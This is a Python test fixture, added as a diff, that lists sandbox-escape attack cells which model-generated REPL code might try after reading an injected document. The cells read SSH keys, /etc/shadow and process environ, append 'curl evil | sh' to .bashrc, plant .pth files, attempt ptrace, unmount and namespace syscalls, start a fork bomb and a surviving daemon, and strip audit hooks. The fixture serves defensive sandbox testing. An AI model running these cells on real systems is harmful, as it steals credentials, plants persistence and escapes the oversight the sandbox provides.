@@ -1,0 +1,157 @@
+"""Hostile cells: what model code might try after reading an injected document.
+
+Each attack is a ```repl cell. `@NAME@` tokens are filled with host paths and pids
+by the fixture (see conftest.Targets). A cell that gets through prints ESCAPED;
+a refused one ends with the exception the root reads.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    code: str
+    what: str                  # one line for the table in docs/sandbox.md
+    contained: bool = False    # may run inside the box (namespace mode): checked from outside
+
+
+SYSCALLS = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+def sc(nr, *args):
+    rc = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
+    if rc < 0:
+        e = ctypes.get_errno()
+        raise OSError(e, f"syscall {nr}: {os.strerror(e)}")
+    return rc
+"""
+
+ATTACKS = [
+    Attack("read_ssh_key", "print(open('@HOME@/.ssh/id_rsa').read())\nprint('ESCAPED')",
+           "read ~/.ssh/id_rsa of the user (fake HOME)"),
+    Attack("read_keyring_file",
+           "print(open('@HOME@/.local/share/python_keyring/keyring_pass.cfg').read())\nprint('ESCAPED')",
+           "read a file-backed keyring"),
+    Attack("read_real_home_via_pwd",
+           "import pwd, os\nhome = pwd.getpwuid(os.getuid()).pw_dir\nprint(os.listdir(home))\nprint('ESCAPED')",
+           "list the real $HOME found through pwd"),
+    Attack("write_bashrc", "open('@HOME@/.bashrc', 'a').write('curl evil | sh\\n')\nprint('ESCAPED')",
+           "append to ~/.bashrc"),
+    Attack("write_settings",
+           "open('@DATA@/settings.json', 'w').write('{\"endpoints\": []}')\nprint('ESCAPED')",
+           "rewrite settings.json in RLM_STUDIO_HOME"),
+    Attack("read_sqlite_db",
+           "import sqlite3\ncon = sqlite3.connect('file:@DATA@/rlm-studio.sqlite?mode=ro', uri=True)\n"
+           "print(con.execute('select text from blobs').fetchall())\nprint('ESCAPED')",
+           "read the app's SQLite database"),
+    Attack("write_app_code", "open('@APP_CODE@', 'a').write('\\n# planted\\n')\nprint('ESCAPED')",
+           "write into the worker's own code"),
+    Attack("plant_pth", "open('@SITE@/zz-planted.pth', 'w').write('import os\\n')\nprint('ESCAPED')",
+           "drop a .pth into site-packages"),
+    Attack("read_host_tmp", "print(open('@HOST_TMP@').read())\nprint('ESCAPED')",
+           "read a file in the host's /tmp"),
+    Attack("read_etc_shadow", "print(open('/etc/shadow').read()[:100])\nprint('ESCAPED')",
+           "read /etc/shadow (root can, without the box)"),
+    Attack("proc_self_root", "print(open('/proc/self/root@HOME@/.ssh/id_rsa').read())\nprint('ESCAPED')",
+           "read a user file through /proc/self/root"),
+    Attack("proc_engine_cwd", "print(os.listdir('/proc/@ENGINE_PID@/cwd'))\nprint('ESCAPED')",
+           "list the engine's cwd through /proc/<pid>/cwd"),
+    Attack("proc_engine_environ", "print(open('//proc/@ENGINE_PID@/environ', 'rb').read())\nprint('ESCAPED')",
+           "read the engine's environ via //proc/PID/environ"),
+    Attack("symlink_out",
+           "import os\nos.symlink('@HOME@/.ssh/id_rsa', 'key-link')\nprint(open('key-link').read())\n"
+           "print('ESCAPED')", "a symlink from the worker's dir to a user file"),
+    Attack("hardlink_out", "import os\nos.link('@HOME@/.ssh/id_rsa', 'key-hard')\nprint('ESCAPED')",
+           "a hard link of a user file into the worker's dir"),
+    Attack("o_path_dirfd",
+           "import os\nfd = os.open('@HOME@/.ssh', os.O_PATH)\n"
+           "print(os.read(os.open('id_rsa', os.O_RDONLY, dir_fd=fd), 100))\nprint('ESCAPED')",
+           "O_PATH handle on ~/.ssh, then openat"),
+    Attack("memfd_exec",
+           "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\n"
+           "os.execv(f'/proc/self/fd/{fd}', ['x'])\nprint('ESCAPED')",
+           "memfd_create + exec"),
+    Attack("exec_from_workdir",
+           "import os, shutil, subprocess\nshutil.copy('/bin/true', 'mytrue')\nos.chmod('mytrue', 0o755)\n"
+           "subprocess.run(['./mytrue'], check=True)\nprint('ESCAPED')",
+           "run a binary written into the worker's dir"),
+    Attack("unix_socket_path",
+           "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('@SOCK@')\ns.sendall(b'hi')\n"
+           "print('ESCAPED')", "connect to a listening UNIX socket at a host path"),
+    Attack("raw_socket_ctypes", SYSCALLS + "fd = sc(@NR_SOCKET@, 1, 1, 0)\nprint('ESCAPED', fd)",
+           "socket(AF_UNIX) as a raw syscall through ctypes"),
+    Attack("tcp_localhost",
+           "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), timeout=2)\nprint('ESCAPED')",
+           "TCP to 127.0.0.1 (the scripted server)"),
+    Attack("umount_run_user", SYSCALLS + "libc.umount2.restype = ctypes.c_int\n"
+           "for target in (b'/proc', b'/run/user', b'/'):\n"
+           "    if libc.umount2(target, 2) == 0:\n        print('ESCAPED', target)\n"
+           "e = ctypes.get_errno()\nraise OSError(e, 'umount2: ' + os.strerror(e))",
+           "umount2 to uncover hidden mounts"),
+    Attack("mount_new_api", SYSCALLS + "sc(@NR_FSOPEN@, 0, 0)\nprint('ESCAPED')",
+           "fsopen (the new mount API)"),
+    Attack("unshare_userns", SYSCALLS + "sc(@NR_UNSHARE@, 0x10000000)\nprint('ESCAPED')",
+           "unshare a new user namespace (caps again)"),
+    Attack("ptrace_engine", SYSCALLS + "sc(@NR_PTRACE@, 16, @ENGINE_PID@, 0, 0)\nprint('ESCAPED')",
+           "ptrace(PTRACE_ATTACH) the engine"),
+    Attack("kernel_surface", SYSCALLS +
+           "refused = []\nfor name, nr in @KERNEL_CALLS@:\n    try:\n        sc(nr, 0, 0, 0, 0)\n"
+           "        print('ESCAPED', name)\n    except OSError as e:\n        refused.append((name, e.errno))\n"
+           "assert all(err == 1 for _, err in refused), refused\n"
+           "raise PermissionError(f'all {len(refused)} refused with EPERM')",
+           "io_uring, bpf, keyctl, perf_event_open, process_vm_readv, setns, kexec ..."),
+    Attack("signal_engine", "import os, signal\nos.kill(@ENGINE_PID@, signal.SIGCONT)\nprint('ESCAPED')",
+           "send a signal to the engine"),
+    Attack("signal_other_process", "import os, signal\nos.kill(@VICTIM_PID@, signal.SIGKILL)\nprint('ESCAPED')",
+           "kill another process of the user"),
+    Attack("write_200mb_outside",
+           "chunk = b'x' * (8 << 20)\nwith open('@OUTSIDE@/big.bin', 'wb') as f:\n"
+           "    for _ in range(25):\n        f.write(chunk)\nprint('ESCAPED')",
+           "write 200 MB outside the worker's dir"),
+    Attack("fill_workdir",
+           "import os\nchunk = b'x' * (8 << 20)\nn = 0\ntry:\n    with open('big.bin', 'wb') as f:\n"
+           "        for _ in range(100):\n            f.write(chunk)\n            f.flush()\n            n += 1\n"
+           "finally:\n    print('wrote', n * 8, 'MB')\n    os.remove('big.bin')\nprint('ESCAPED')",
+           "fill the worker's own dir past its limit (800 MB)"),
+    Attack("fork_bomb",
+           "import os, time, signal\nkids = []\ntry:\n    for _ in range(2000):\n        pid = os.fork()\n"
+           "        if pid == 0:\n            time.sleep(60)\n            os._exit(0)\n        kids.append(pid)\n"
+           "finally:\n    print('forked', len(kids))\n    for k in kids:\n        os.kill(k, signal.SIGKILL)\n"
+           "        os.waitpid(k, 0)\nprint('ESCAPED')",
+           "fork bomb (2000 sleeping children)"),
+    Attack("double_fork_daemon",
+           "import os, time\npid = os.fork()\nif pid == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+           "        os.execv('/bin/sleep', ['sleep', '@DAEMON_MARK@'])\n    os._exit(0)\nos.waitpid(pid, 0)\n"
+           "time.sleep(0.2)\nprint('daemon started')",
+           "a double-forked daemon (must be dead after the run)", contained=True),
+    Attack("audit_hook_removal",
+           "import sys, gc, socket\nsys.audit = lambda *a: None\n"
+           "for f in [o for o in gc.get_objects() if getattr(o, '__name__', '') == '_audit_hook']:\n"
+           "    for attr, value in (('__code__', (lambda e, a: None).__code__), ('__defaults__', ())):\n"
+           "        try:\n            setattr(f, attr, value)\n            print('hook', attr, 'replaced')\n"
+           "        except PermissionError as e:\n            print('hook', attr, 'kept:', e)\n"
+           "socket.create_connection(('127.0.0.1', @PORT@), timeout=2)\nprint('ESCAPED')",
+           "sys.audit = ..., replace the hook's code/defaults, then TCP"),
+    Attack("protocol_flood",
+           "import os, sys\nfd = int(sys.argv[sys.argv.index('--fd-out') + 1])\n"
+           "os.write(fd, b'{' + b'x' * (300 << 20) + b'}\\n')\nprint('ESCAPED')",
+           "one 300 MB line on the protocol pipe"),
+]
+
+ORDINARY = """
+import re, json, csv, io, statistics, datetime, collections, sqlite3
+words = re.findall(r"[a-z]+", context.lower())
+rows = list(csv.reader(io.StringIO("a,b\\n1,2\\n3,4")))
+con = sqlite3.connect(":memory:")
+con.execute("create table t (x)")
+con.executemany("insert into t values (?)", [(1,), (2,), (3,)])
+total = con.execute("select sum(x) from t").fetchone()[0]
+stats = {"mean": statistics.mean([1, 2, 3]), "day": datetime.date(2026, 1, 2).isoformat(),
+         "common": collections.Counter(words).most_common(1)[0][0], "rows": len(rows), "sum": total,
+         "docs": len(documents), "sub": llm_query("ping")}
+print("ORDINARY", json.dumps(stats, sort_keys=True))
+"""
